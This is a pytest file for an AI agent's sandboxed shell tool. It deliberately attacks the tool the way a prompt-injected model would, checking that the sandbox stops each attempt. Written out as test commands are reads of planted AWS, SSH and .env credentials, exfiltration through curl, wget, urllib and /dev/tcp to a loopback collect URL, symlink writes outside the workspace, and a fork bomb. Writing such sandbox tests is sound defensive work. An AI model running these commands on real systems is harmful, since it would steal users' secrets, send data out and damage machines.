"""The shell tool: `bash -c` in the workspace inside the python tool's sandbox, attacked as a prompt-injected
model would (canaries where users keep secrets, a loopback server, symlinks, escaping and endless processes),
plus what it shows: exit status, stdout, stderr, cut at the same limits."""

from __future__ import annotations

import os
import shutil
import socket
import uuid
from pathlib import Path

import pytest

from config import Settings
from tests.fakes.processes import alive_with, gone
from tools.base import ToolRegistry
from tools.sandbox import MAX_PROCESSES, bwrap, landlock, pids, seccomp_problem
from tools.shell import ShellTool

ABI = landlock.abi_version()
needs_landlock = pytest.mark.skipif(ABI < 4, reason=f"needs Landlock ABI >= 4 (this kernel has {ABI})")
needs_bwrap = pytest.mark.skipif(bwrap.probe() != "", reason=bwrap.probe() or "bwrap works")
needs_seccomp = pytest.mark.skipif(seccomp_problem() != "", reason=seccomp_problem() or "seccomp works")
BACKENDS = [pytest.param("landlock", marks=[needs_landlock, needs_seccomp]),
            pytest.param("bwrap", marks=[needs_bwrap, needs_seccomp])]
CANARIES = ("CANARY-DOTENV-a41f", "CANARY-ABOVE-77c2", "CANARY-AWS-90be", "CANARY-ENV-3d5e", "CANARY-SSH-18aa")

# As root, only a pids cgroup bounds a fork bomb (RLIMIT_NPROC does not bind root and the supervisor's count
# can be outrun): without one, the bomb could take the machine's last process slots.
UNBOUNDED_AS_ROOT = pytest.mark.skipif(os.geteuid() == 0 and pids.base() is None,
                                       reason="root without a pids cgroup to hold a fork bomb (tools/sandbox/pids.py)")


@pytest.fixture
def layout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A run directory (cwd) with a .env, another .env above it, a HOME with AWS and SSH keys, a key in the
    environment."""
    above, home = tmp_path / "projects", tmp_path / "home"
    run = above / "run"
    for folder in (home / ".aws", home / ".ssh", run):
        folder.mkdir(parents=True)
    (run / ".env").write_text(f"OPENAI_API_KEY={CANARIES[0]}\n")
    (above / ".env").write_text(f"SERPER_API_KEY={CANARIES[1]}\n")
    (home / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {CANARIES[2]}\n")
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{CANARIES[4]}\n")
    (home / ".bashrc").write_text("# untouched\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("ANTHROPIC_API_KEY", CANARIES[3])
    monkeypatch.chdir(run)
    return {"above": above, "run": run, "home": home, "ws": run / "workspace" / "run-1" / "task-1"}


def make(layout: dict[str, Path], backend: str = "auto", **settings: object) -> ShellTool:
    return ShellTool(layout["ws"], Settings(sandbox=backend, **settings),  # type: ignore[arg-type]
                     inherited_env=dict(os.environ))


def test_exit_status_stdout_and_stderr(layout: dict[str, Path]) -> None:
    out = make(layout).run(command="echo out; echo err >&2; exit 3")
    assert out.startswith("Exit status 3 (the command failed; see stderr).")
    assert "stdout:\nout" in out and "stderr:\nerr" in out


def test_runs_in_the_workspace_with_pipes_and_the_model_sees_the_counts(layout: dict[str, Path]) -> None:
    out = make(layout).run(command="printf 'b\\na\\nb\\n' > f.txt && sort f.txt | uniq -c && pwd && wc -l < f.txt")
    assert "1 a" in out and "2 b" in out and str(layout["ws"].resolve()) in out and "\n3" in out
    assert (layout["ws"] / "f.txt").read_text() == "b\na\nb\n"


def test_a_missing_command_gives_bashs_own_error(layout: dict[str, Path]) -> None:
    out = make(layout).run(command="no-such-command-1f2e --help")
    assert out.startswith("Exit status 127") and "command not found" in out


def test_registered_with_a_short_description_and_a_plain_string_is_the_command(layout: dict[str, Path]) -> None:
    registry = ToolRegistry([make(layout)])
    found, args = registry.prepare("shell", "echo plain")
    assert "plain" in str(found.run(**args))
    assert len(found.description) <= 300 and "no network" in found.description


def test_endless_output_is_bounded_and_the_cut_is_said(layout: dict[str, Path]) -> None:
    tool = make(layout, python_timeout=2.0)
    out = tool.run(command="yes 'line of output'")
    assert out.startswith("Timed out after 2 s") and "not kept" in out
    assert len(out) < tool.stdout_chars + tool.stderr_chars + 600
    finished = tool.run(command="seq 1 300000")
    assert finished.startswith("Exit status 0") and "\n1\n" in finished and "300000" in finished
    assert "150000\n" not in finished and "cut" in finished


@pytest.mark.parametrize("backend", BACKENDS)
def test_canary_secrets_never_reach_the_output(layout: dict[str, Path], backend: str) -> None:
    home, run = layout["home"], layout["run"]
    command = (f"cat {home}/.aws/credentials {home}/.ssh/id_rsa {run}/.env ../../../.env ../../../../.env "
               f"~/.aws/credentials; env; cat /proc/$PPID/environ /proc/1/environ; ls -a {home} {run}; "
               f"grep -r CANARY {layout['above']} /proc/self/environ; cp {run}/.env stolen.txt; cat stolen.txt")
    out = make(layout, backend).run(command=command)
    assert not [c for c in CANARIES if c in out], out
    assert "Permission denied" in out or "No such file" in out  # (bwrap: the paths do not even exist)


@pytest.mark.parametrize("backend", BACKENDS)
def test_nothing_reaches_a_loopback_server(layout: dict[str, Path], backend: str) -> None:
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        port, udp_port = tcp.getsockname()[1], udp.getsockname()[1]
        url = f"http://127.0.0.1:{port}/collect?k=x"
        tries = [f"python3 -c \"import urllib.request; urllib.request.urlopen('{url}', timeout=2)\"",
                 f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo TCP-CONNECTED",
                 f"echo BAIT > /dev/udp/127.0.0.1/{udp_port} && echo UDP-SENT"]
        tries += [f"curl -s -m 2 '{url}' && echo CURL-OK"] if shutil.which("curl") else []
        tries += [f"wget -q -T 2 -t 1 -O- '{url}' && echo WGET-OK"] if shutil.which("wget") else []
        out = make(layout, backend).run(command="; ".join(tries))
        tcp.settimeout(0)
        udp.settimeout(0)
        with pytest.raises(BlockingIOError):
            tcp.accept()
        with pytest.raises(BlockingIOError):
            udp.recvfrom(100)
    assert "CONNECTED" not in out and "SENT" not in out and "-OK" not in out, out


@pytest.mark.parametrize("backend", BACKENDS)
def test_no_write_outside_the_workspace_through_a_path_or_a_symlink(layout: dict[str, Path], backend: str) -> None:
    home, run = layout["home"], layout["run"]
    shm = f"/dev/shm/agent-bait-{uuid.uuid4().hex}"
    project_file = Path(__file__).resolve().parent.parent / "config.py"
    before = project_file.stat().st_mtime_ns
    command = (f"echo evil >> {home}/.bashrc; echo evil > {run}/new.txt; echo evil >> {project_file}; "
               f"echo x > {shm}; ln -s {home}/.bashrc link && echo evil >> link; ln -s {run} up && "
               "echo evil > up/planted.txt; echo evil > ../../sibling.txt; echo done")
    try:
        out = make(layout, backend).run(command=command)
        assert "done" in out
        assert (home / ".bashrc").read_text() == "# untouched\n"
        assert not (run / "new.txt").exists() and not (run / "planted.txt").exists()
        assert not (run / "workspace" / "sibling.txt").exists() and not os.path.exists(shm)
        assert project_file.stat().st_mtime_ns == before
    finally:
        if os.path.exists(shm):
            os.remove(shm)


@pytest.mark.parametrize("backend", ["none", *BACKENDS])
@pytest.mark.parametrize("ending", ["finishes", "times out"])
def test_background_nohup_setsid_and_double_forked_processes_do_not_outlive_the_call(
        layout: dict[str, Path], backend: str, ending: str) -> None:
    token = f"{400 + uuid.uuid4().int % 10_000}.{uuid.uuid4().int % 1000}"
    command = (f"sleep {token} & nohup sleep {token} >/dev/null 2>&1 & setsid sleep {token} & "
               f"( ( sleep {token} & ) & ); disown -a; sleep 0.3; echo spawned"
               + ("; sleep 60" if ending == "times out" else ""))
    out = make(layout, backend, python_timeout=3.0).run(command=command)
    try:
        assert "spawned" in out and ("Timed out" in out) == (ending == "times out")
        assert gone(token), f"left running: {alive_with(token)}"
    finally:
        for pid in alive_with(token):
            os.kill(pid, 9)


@UNBOUNDED_AS_ROOT
@pytest.mark.parametrize("backend", ["none", *BACKENDS])
def test_a_fork_bomb_is_stopped_at_the_process_limit(layout: dict[str, Path], backend: str) -> None:
    token = f"bomb{uuid.uuid4().hex[:8]}"
    out = make(layout, backend, python_timeout=20.0).run(command=f": {token}; b(){{ b|b& }}; b; sleep 15")
    try:
        assert out.startswith(f"Stopped: the command started more than {MAX_PROCESSES} processes at once"), out
        assert gone(token), f"left running: {len(alive_with(token))}"
    finally:
        for pid in alive_with(token):
            os.kill(pid, 9)
